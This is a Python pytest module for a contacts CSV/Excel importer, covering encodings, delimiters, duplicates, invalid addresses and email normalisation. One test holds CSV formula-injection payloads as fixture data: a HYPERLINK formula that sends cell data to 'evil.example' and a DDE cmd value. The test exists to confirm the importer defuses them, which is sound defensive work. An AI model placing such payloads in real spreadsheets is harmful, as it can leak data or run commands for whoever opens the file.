"""The "Done when" set: deliberately messy files import with exact counts and reasons."""

from __future__ import annotations

import pytest
from email_validator import EmailNotValidError, validate_email

from blueprints.contacts import importing, services
from blueprints.contacts.readers import ImportFileError
from blueprints.contacts.validation import InvalidValue
from engagex.errors import ValidationFailed
from tests.contacts.helpers import counts, emails, errors, run_file


def validator_says(raw: str) -> str:
    try:
        validate_email(raw, check_deliverability=False, allow_display_name=True)
    except EmailNotValidError as exc:
        return f"invalid email address {raw!r}: {exc}"
    raise AssertionError(f"{raw!r} is valid")


def contact(email: str):
    return services.find_contact(None, email)


def test_utf8_bom_with_semicolons_and_german_headers(org):
    services.create_field(None, name="plan", type="text")
    record = run_file("semicolon_bom.csv")
    assert counts(record) == {"created": 4, "updated": 0, "skipped": 0, "invalid": 0}
    assert (record.encoding, record.delimiter) == ("utf-8-sig", ";")
    assert emails() == [
        "anna@example.com",
        "bernd@example.com",
        "carla@example.org",
        "dora@example.com",
    ]
    bernd = contact("bernd@example.com")
    assert (bernd.first_name, bernd.last_name, bernd.attributes) == (
        "Bernd",
        "Müller",
        {"plan": "free"},
    )
    assert contact("dora@example.com").last_name == "Meier; Jr."
    assert record.columns["mapped"] == {
        "E-Mail": "email",
        "Vorname": "first_name",
        "Nachname": "last_name",
        "Plan": "attributes.plan",
    }


def test_latin1_is_detected(org):
    record = run_file("latin1.csv")
    assert counts(record) == {"created": 3, "updated": 0, "skipped": 0, "invalid": 0}
    assert record.encoding == "cp1252"
    assert (contact("jose@example.com").first_name, contact("jose@example.com").last_name) == (
        "José",
        "Muñoz",
    )
    assert contact("zoe@example.de").last_name == "Größe"


def test_utf16_with_tabs(org):
    record = run_file("utf16_tabs.txt")
    assert counts(record) == {"created": 2, "updated": 0, "skipped": 0, "invalid": 0}
    assert (record.encoding, record.delimiter) == ("utf-16", "\t")
    assert (contact("kim@example.kr").first_name, contact("kim@example.kr").last_name) == (
        "김",
        "민준",
    )


def test_quoted_newlines_keep_spreadsheet_row_numbers(org):
    services.create_field(None, name="notes", type="text")
    record = run_file("quoted_newlines.csv")
    assert counts(record) == {"created": 3, "updated": 0, "skipped": 0, "invalid": 1}
    assert errors(record) == [(4, validator_says("bad-address"))]
    assert contact("multi@example.com").attributes == {"notes": "line one\nline two"}
    assert contact("next@example.com").attributes == {"notes": 'she said "hi"'}


def test_duplicates_differing_in_case_are_rejected_with_the_first_row(org):
    record = run_file("duplicates_case.csv")
    assert counts(record) == {"created": 2, "updated": 0, "skipped": 0, "invalid": 3}
    assert errors(record) == [
        (3, "duplicate of row 2"),
        (5, "duplicate of row 2"),
        (6, "duplicate of row 4"),
    ]
    assert contact("ann@example.com").first_name == "Ann"  # the first row wins


def test_invalid_addresses(org):
    record = run_file("invalid_addresses.csv")
    assert counts(record) == {"created": 2, "updated": 0, "skipped": 0, "invalid": 7}
    assert errors(record) == [
        (2, "missing email address"),
        (3, validator_says("not-an-email")),
        (4, validator_says("two@@example.com")),
        (5, validator_says("user@localhost")),
        (6, validator_says("spaces in@example.com")),
        (9, validator_says("trailing.dot.@example.com")),
        (10, validator_says("user@example..com")),
    ]
    # "Name <address>" is an address with a display name: accepted, name dropped.
    assert emails() == ["john@example.com", "ok@example.com"]


def test_formula_cells_are_stored_as_text_and_the_formula_address_rejected(org):
    services.create_field(None, name="company", type="text")
    record = run_file("formulas.csv")
    assert counts(record) == {"created": 2, "updated": 0, "skipped": 0, "invalid": 1}
    raw = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert errors(record) == [(2, validator_says(raw))]
    formula = contact("formula@example.com")
    assert (formula.first_name, formula.last_name, formula.attributes) == (
        "=1+2",
        "+cmd|' /C calc'!A0",
        {"company": "@SUM(A1)"},
    )
    # The rejected-rows file is itself defused: it is opened in spreadsheets.
    rejected = importing.rejected_file(None, record.id).read_text()
    assert "'=HYPERLINK" in rejected and "\n2,email," in rejected


def test_ragged_rows_and_blank_lines(org):
    record = run_file("ragged.csv")
    assert counts(record) == {"created": 2, "updated": 0, "skipped": 0, "invalid": 1}
    assert errors(record) == [(4, "has 4 cells but the header has 3")]
    assert contact("short@example.com").last_name is None
    assert contact("trail@example.com").last_name == "Ing"


def test_excel_with_two_sheets(org):
    services.create_field(None, name="signup", type="date")
    services.create_field(None, name="score", type="number")
    services.create_field(None, name="vip", type="boolean")
    with pytest.raises(ValidationFailed, match="no email column"):
        run_file("two_sheets.xlsx")  # the first sheet is a summary
    record = run_file("two_sheets.xlsx", sheet="Contacts")
    assert counts(record) == {"created": 3, "updated": 0, "skipped": 0, "invalid": 2}
    assert errors(record) == [(5, "score: 'n/a' is not a number"), (6, "duplicate of row 2")]
    assert (record.file_format, record.options["sheet"]) == ("xlsx", "Contacts")
    assert contact("a@example.com").attributes == {"signup": "2024-01-15", "score": 42, "vip": True}
    assert contact("b@example.com").attributes == {
        "signup": "2024-02-01",
        "score": 7.5,
        "vip": False,
    }
    assert contact("d@example.com").attributes == {"signup": "2024-03-05", "score": 10, "vip": True}
    by_number = run_file("two_sheets.xlsx", sheet=2)
    assert counts(by_number) == {"created": 0, "updated": 3, "skipped": 0, "invalid": 2}


def test_a_broken_file_applies_nothing(org):
    with pytest.raises(ImportFileError, match=r"not valid CSV at line 4.*nothing was imported"):
        run_file("unclosed_quote.csv")
    assert emails() == []


def test_unknown_sheet_and_missing_email_column_are_clear_errors(org, tmp_path):
    with pytest.raises(ImportFileError, match="no sheet named 'Nope'; sheets: Summary, Contacts"):
        run_file("two_sheets.xlsx", sheet="Nope")
    names_only = tmp_path / "names.csv"
    names_only.write_text("Name,Company\nAnn,X\n")
    with pytest.raises(ValidationFailed, match="no email column found"):
        run_file(names_only)
    mapped = run_file(names_only, mapping={"email": "Company"})
    assert counts(mapped)["invalid"] == 1


def test_email_validator_and_fast_path_agree():
    """The regex fast path must accept and normalise exactly like email-validator."""
    from blueprints.contacts.validation import EmailNormalizer

    samples = [
        "Simple@Example.com",
        "a.b+tag@sub.example.co.uk",
        "x@example",
        "x@-example.com",
        "x@example-.com",
        "x@exa_mple.com",
        "x@xn--bcher-kva.example",
        "x@bücher.example",
        "ünï@example.com",
        ".x@example.com",
        "x..y@example.com",
        "x@example.test",
        "x@123.com",
        "x@example.123",
        "a" * 65 + "@example.com",
        "x@" + "a" * 64 + ".com",
        "x@" + ".".join(["a" * 60] * 5) + ".com",
        "o'brien@example.ie",
        "x@ex--ample.com",
        "x@ab--cd.com",
    ]
    normalizer = EmailNormalizer()
    for raw in samples:
        try:
            result = validate_email(raw, check_deliverability=False, allow_display_name=True)
            expected = f"{result.local_part}@{result.ascii_domain}".lower()
        except EmailNotValidError:
            expected = None
        try:
            got = normalizer.normalize(raw)
        except InvalidValue:
            got = None
        assert got == expected, raw
        assert normalizer.column([raw])[0] == [expected], raw
